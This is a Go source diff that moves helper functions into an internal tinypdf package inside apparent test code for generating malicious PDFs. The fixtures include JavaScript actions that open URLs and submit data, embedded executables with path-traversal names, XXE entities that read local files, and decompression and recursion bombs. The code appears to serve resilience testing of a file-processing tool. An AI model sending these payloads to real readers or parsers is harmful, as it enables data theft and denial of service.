@@ -10,6 +10,7 @@ import (
 	"strings"
 
 	"github.com/filewright/filewright/fileops"
+	"github.com/filewright/filewright/internal/tinypdf"
 )
 
 // hostilePDFs returns documents that open other documents, run programs, send
@@ -22,7 +23,7 @@ func hostilePDFs(t target) []*fileops.File {
 	page := func(more string) string {
 		return "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 4 0 R/Y 6 0 R>>/Font<</F 7 0 R>>>>/Contents[5 0 R]" + more + ">>"
 	}
-	text := pdfStream("", "BT /F 9 Tf 9 9 Td (x) Tj ET /X Do /Y Do\n")
+	text := tinypdf.Stream("", "BT /F 9 Tf 9 9 Td (x) Tj ET /X Do /Y Do\n")
 	image := func(spec string) string {
 		return "<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F" + spec + "/Length 0>>stream\n\nendstream"
 	}
@@ -42,12 +43,12 @@ func hostilePDFs(t target) []*fileops.File {
 			"<</S/JavaScript/JS(app.launchURL\\('" + s + "'\\);this.submitForm\\('" + s + "'\\);this.getURL\\('" + s + "'\\);app.openDoc\\('" + s + "'\\);SOAP.connect\\('" + s + "'\\);util.readFileIntoStream\\('" + s + "'\\))>>]>>"
 		add(fmt.Sprintf("actions-%d.pdf", i), pdfOf("<</Type/Catalog/Pages 2 0 R/OpenAction "+action+"/AA<</WC "+action+"/WP "+action+">>/URI<</Base("+t.base+"/)>>/Names<</JavaScript<</Names[(x)"+action+"]>>/EmbeddedFiles<</Names[(../../x.exe)<</Type/Filespec/F(../../x.exe)/EF<</F 4 0 R>>>>]>>/URLS<</Names[(x)("+s+")]>>>>/AcroForm<</Fields[8 0 R]/NeedAppearances true/XFA 9 0 R>>>>", pages,
 			page("/AA<</O "+action+"/C "+action+">>/Annots[8 0 R<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F"+where+">>>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A "+action+">><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS"+where+">><</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A "+action+">>]"),
-			pdfStream("/Type/EmbeddedFile", "MZ"), text, pdfStream("/Type/XObject/Subtype/PS", "("+t.path+") (r) file\n"), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+			tinypdf.Stream("/Type/EmbeddedFile", "MZ"), text, tinypdf.Stream("/Type/XObject/Subtype/PS", "("+t.path+") (r) file\n"), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
 			"<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[0 0 9 9]/AA<</F "+action+"/K "+action+"/V "+action+">>>>",
-			pdfStream("", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+s+`">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform usehref="`+s+`"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("`+s+`")</script><submit target="`+s+`"/></event><draw><value><image href="`+s+`"/></value></draw></subform></template><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><x>&e;</x></xfa:datasets></xdp:xdp>`)))
+			tinypdf.Stream("", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+s+`">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform usehref="`+s+`"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("`+s+`")</script><submit target="`+s+`"/></event><draw><value><image href="`+s+`"/></value></draw></subform></template><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><x>&e;</x></xfa:datasets></xdp:xdp>`)))
 	}
 	add("metadata.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R>>", pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
-		pdfStream("/Type/Metadata/Subtype/XML", `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY % p SYSTEM "`+t.base+`/dtd">%p;]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta><?xpacket end="w"?>`)))
+		tinypdf.Stream("/Type/Metadata/Subtype/XML", `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY % p SYSTEM "`+t.base+`/dtd">%p;]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta><?xpacket end="w"?>`)))
 	return out
 }
 
@@ -57,10 +58,10 @@ func pdfBombs() []*fileops.File {
 	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
 	catalog, pages, page := "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>/Pattern<</P 5 0 R>>/Font<</F 5 0 R>>>>/Contents 4 0 R>>"
 	// Compressed twice, by a factor of a thousand each time.
-	add("nested.pdf", pdfOf(catalog, pages, page, pdfStream("/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(strings.Repeat("q Q\n", 256<<10), 300)))))
-	add("chain.pdf", pdfOf(catalog, pages, page, pdfStream("/Filter["+strings.Repeat("/FlateDecode", 20)+strings.Repeat("/ASCIIHexDecode", 20)+"/RunLengthDecode/LZWDecode]", zlibbed(zlibbed(zeros(1<<20))))))
-	add("predictor.pdf", pdfOf(catalog, pages, page, pdfStream("/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 255/BitsPerComponent 16>>", zlibbed(zeros(1<<20)))))
-	add("count.pdf", pdfOf(catalog, "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 3000)+"]/Count 2147483647>>", page, pdfStream("", "q Q")))
+	add("nested.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(strings.Repeat("q Q\n", 256<<10), 300)))))
+	add("chain.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter["+strings.Repeat("/FlateDecode", 20)+strings.Repeat("/ASCIIHexDecode", 20)+"/RunLengthDecode/LZWDecode]", zlibbed(zlibbed(zeros(1<<20))))))
+	add("predictor.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 255/BitsPerComponent 16>>", zlibbed(zeros(1<<20)))))
+	add("count.pdf", pdfOf(catalog, "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 3000)+"]/Count 2147483647>>", page, tinypdf.Stream("", "q Q")))
 	// Ten kids per node, nine levels deep: a billion pages.
 	tree := []string{catalog}
 	for i := 2; i < 11; i++ {
@@ -72,28 +73,28 @@ func pdfBombs() []*fileops.File {
 	}
 	add("tree.pdf", pdfOf(append(tree, "<</Type/Page/Parent 10 0 R/MediaBox[0 0 99 99]>>")...))
 	add("kids.pdf", pdfOf(catalog, "<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 3 0 R/Count 2>>", "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"))
-	add("resources.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox 3 0 R/Resources 3 0 R/Contents[3 0 R 4 0 R]/Annots 3 0 R>>", pdfStream("/Length 4 0 R", "q Q")))
-	add("outlines.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>/PageLabels 6 0 R/StructTreeRoot 6 0 R>>", pages, page, pdfStream("", "q Q"),
+	add("resources.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox 3 0 R/Resources 3 0 R/Contents[3 0 R 4 0 R]/Annots 3 0 R>>", tinypdf.Stream("/Length 4 0 R", "q Q")))
+	add("outlines.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>/PageLabels 6 0 R/StructTreeRoot 6 0 R>>", pages, page, tinypdf.Stream("", "q Q"),
 		"<</Type/Outlines/First 5 0 R/Last 5 0 R/Next 5 0 R/Parent 5 0 R/Title(x)/Dest[3 0 R/Fit]/Count 99>>", "<</Kids[6 0 R 6 0 R]/Limits[(a)(b)]/K[6 0 R]/Nums[0 6 0 R]>>"))
-	add("page.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[-1e9 -1e9 1e9 1e9]/UserUnit 75000/Contents 4 0 R>>", pdfStream("", "0 0 1e9 1e9 re f")))
+	add("page.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[-1e9 -1e9 1e9 1e9]/UserUnit 75000/Contents 4 0 R>>", tinypdf.Stream("", "0 0 1e9 1e9 re f")))
 	// Each form draws the next one ten times.
-	forms := []string{catalog, pages, page, pdfStream("", "/X Do")}
+	forms := []string{catalog, pages, page, tinypdf.Stream("", "/X Do")}
 	for i := 5; i < 15; i++ {
-		forms = append(forms, pdfStream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X %d 0 R>>>>", i+1), strings.Repeat("/X Do ", 10)))
+		forms = append(forms, tinypdf.Stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X %d 0 R>>>>", i+1), strings.Repeat("/X Do ", 10)))
 	}
-	add("forms.pdf", pdfOf(append(forms, pdfStream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]", "0 0 9 9 re f"))...))
-	add("form.pdf", pdfOf(catalog, pages, page, pdfStream("", "/X Do"), pdfStream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>>>/Group<</S/Transparency>>", "/X Do /X Do")))
-	add("pattern.pdf", pdfOf(catalog, pages, page, pdfStream("", "/Pattern cs /P scn 0 0 99 99 re f"), pdfStream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001/YStep 0.00001/Resources<</Pattern<</P 5 0 R>>>>", "/Pattern cs /P scn 0 0 99 99 re f")))
-	add("glyphs.pdf", pdfOf(catalog, pages, page, pdfStream("", "BT /F 9 Tf (aaaa) Tj ET"), "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>", pdfStream("", "9 0 d0 BT /F 9 Tf (aaaa) Tj ET")))
-	add("image.pdf", pdfOf(catalog, pages, page, pdfStream("", "99 0 0 99 0 0 cm /X Do"), pdfStream("/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceCMYK/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(zeros(1<<20), 500)))))
-	add("mask.pdf", pdfOf(catalog, pages, page, pdfStream("", "99 0 0 99 0 0 cm /X Do"), pdfStream("/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 5 0 R/Alternates[<</Image 5 0 R>>]", zeros(81))))
-	add("function.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>>>/Contents 4 0 R>>", pdfStream("", strings.Repeat("/S sh ", 500)),
-		pdfStream("/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1 0 1 0 1]/Size[65535 65535 65535 65535]/BitsPerSample 32", zeros(64))))
-	add("operators.pdf", pdfOf(catalog, pages, page, pdfStream("/Filter/FlateDecode", zlibbed(strings.Repeat("q ", 4<<20)+strings.Repeat("[", 1<<20)+strings.Repeat("<<", 1<<20)))))
-	add("deep.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/X "+strings.Repeat("[", 50000)+strings.Repeat("]", 50000)+"/Y "+strings.Repeat("<</A", 20000)+" 1"+strings.Repeat(">>", 20000)+">>", pages, page, pdfStream("", "q Q")))
+	add("forms.pdf", pdfOf(append(forms, tinypdf.Stream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]", "0 0 9 9 re f"))...))
+	add("form.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "/X Do"), tinypdf.Stream("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>>>/Group<</S/Transparency>>", "/X Do /X Do")))
+	add("pattern.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "/Pattern cs /P scn 0 0 99 99 re f"), tinypdf.Stream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001/YStep 0.00001/Resources<</Pattern<</P 5 0 R>>>>", "/Pattern cs /P scn 0 0 99 99 re f")))
+	add("glyphs.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "BT /F 9 Tf (aaaa) Tj ET"), "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>", tinypdf.Stream("", "9 0 d0 BT /F 9 Tf (aaaa) Tj ET")))
+	add("image.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "99 0 0 99 0 0 cm /X Do"), tinypdf.Stream("/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceCMYK/Filter[/FlateDecode/FlateDecode]", zlibbed(zlibRepeated(zeros(1<<20), 500)))))
+	add("mask.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("", "99 0 0 99 0 0 cm /X Do"), tinypdf.Stream("/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 5 0 R/Alternates[<</Image 5 0 R>>]", zeros(81))))
+	add("function.pdf", pdfOf(catalog, pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>>>/Contents 4 0 R>>", tinypdf.Stream("", strings.Repeat("/S sh ", 500)),
+		tinypdf.Stream("/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1 0 1 0 1]/Size[65535 65535 65535 65535]/BitsPerSample 32", zeros(64))))
+	add("operators.pdf", pdfOf(catalog, pages, page, tinypdf.Stream("/Filter/FlateDecode", zlibbed(strings.Repeat("q ", 4<<20)+strings.Repeat("[", 1<<20)+strings.Repeat("<<", 1<<20)))))
+	add("deep.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R/X "+strings.Repeat("[", 50000)+strings.Repeat("]", 50000)+"/Y "+strings.Repeat("<</A", 20000)+" 1"+strings.Repeat(">>", 20000)+">>", pages, page, tinypdf.Stream("", "q Q")))
 	// Cross-reference tables that refer to each other, and objects that contain
 	// themselves.
-	plain := pdfOf(catalog, pages, page, pdfStream("", "q Q"))
+	plain := pdfOf(catalog, pages, page, tinypdf.Stream("", "q Q"))
 	at := strings.LastIndex(plain, "xref\n0")
 	add("previous.pdf", strings.Replace(plain, "/Root 1 0 R", fmt.Sprintf("/Root 1 0 R/Prev %d/XRefStm %d", at, at), 1))
 	add("size.pdf", strings.Replace(plain, "xref\n0 ", "xref\n0 2147483647\nxref\n0 ", 1))
@@ -104,26 +105,7 @@ func pdfBombs() []*fileops.File {
 }
 
 // pdfOf returns a document of objects, of which the first is the catalog.
-func pdfOf(objects ...string) string {
-	var b strings.Builder
-	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-	var at []int
-	for i, o := range objects {
-		at = append(at, b.Len())
-		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	start := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
-	for _, n := range at {
-		fmt.Fprintf(&b, "%010d 00000 n \n", n)
-	}
-	fmt.Fprintf(&b, "trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
-	return b.String()
-}
-
-func pdfStream(dict, data string) string {
-	return fmt.Sprintf("<<%s/Length %d>>stream\n%s\nendstream", dict, len(data), data)
-}
+func pdfOf(objects ...string) string { return string(tinypdf.File("1.7", objects...)) }
 
 // zlibRepeated returns zlib data that decompresses to n times s. It compresses s
 // only once.
